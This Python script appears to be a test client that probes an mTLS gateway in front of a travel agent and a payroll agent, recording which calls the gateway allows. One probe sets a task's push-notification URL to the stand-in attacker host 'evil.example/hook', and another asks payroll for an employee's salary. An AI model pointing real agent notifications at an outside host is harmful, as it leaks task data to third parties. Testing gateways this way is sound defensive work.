"""A planner made with the official SDK's client: `ask.py PORT CERTIFICATES`, the user's token on standard input.

Asks the travel agent and payroll through the gateway at PORT, over mTLS, and prints what came of it as JSON.
"""

import asyncio
import json
import ssl
import sys

import httpx
from a2a.client import A2ACardResolver, ClientConfig, ClientFactory
from a2a.helpers.proto_helpers import get_artifact_text, new_text_message
from a2a.types import a2a_pb2 as a2a

TRAVEL, PAYROLL = "travel.agents.acme.example", "payroll.agents.acme.example"


class ThroughGateway(httpx.AsyncHTTPTransport):
    """Connects to the gateway whatever the host, as DNS would have it."""

    async def handle_async_request(self, request):
        request.extensions["sni_hostname"] = request.url.host
        request.url = request.url.copy_with(host="127.0.0.1", port=int(sys.argv[1]))
        return await super().handle_async_request(request)


def message(text):
    return a2a.SendMessageRequest(message=new_text_message(text, role=a2a.ROLE_USER))


async def outcome(call):
    try:
        await call
        return "allowed"
    except Exception as error:
        return type(error).__name__, str(error)


async def first(events):
    return [event async for event in events]


async def main():
    folder = sys.argv[2]
    tls = ssl.create_default_context(cafile=f"{folder}/acme.example.pem")
    tls.load_cert_chain(f"{folder}/planner.pem", f"{folder}/planner.key")
    headers = {"authorization": f"Bearer {sys.stdin.read().strip()}"}
    async with httpx.AsyncClient(transport=ThroughGateway(verify=tls), headers=headers, timeout=30) as http:
        cards = [await A2ACardResolver(http, f"https://{host}").get_agent_card() for host in (TRAVEL, PAYROLL)]
        whole, streaming = (ClientFactory(ClientConfig(streaming=on, httpx_client=http)) for on in (False, True))
        travel, payroll = (whole.create(card) for card in cards)

        [answer] = await first(travel.send_message(message("A flight to Lisbon")))
        events = await first(streaming.create(cards[0]).send_message(message("A hotel in Lisbon")))
        task = await travel.get_task(a2a.GetTaskRequest(id=answer.task.id))
        abroad = message("A flight to Lisbon")
        abroad.configuration.task_push_notification_config.url = "https://evil.example/hook"
        told = {
            "cards": [card.name for card in cards],
            "answer": get_artifact_text(answer.task.artifacts[0]),
            "events": [event.WhichOneof("payload") for event in events],
            "same_task": task.id == answer.task.id,
            "missing": await outcome(travel.get_task(a2a.GetTaskRequest(id="T-none"))),
            "notify_abroad": await outcome(first(travel.send_message(abroad))),
            "payroll_task": await outcome(payroll.get_task(a2a.GetTaskRequest(id="T-salary"))),
            "payroll": await outcome(first(payroll.send_message(message("What does Bob earn?")))),
            "still_usable": await outcome(first(travel.send_message(message("A flight to Porto")))),
        }
    print(json.dumps(told))


asyncio.run(main())
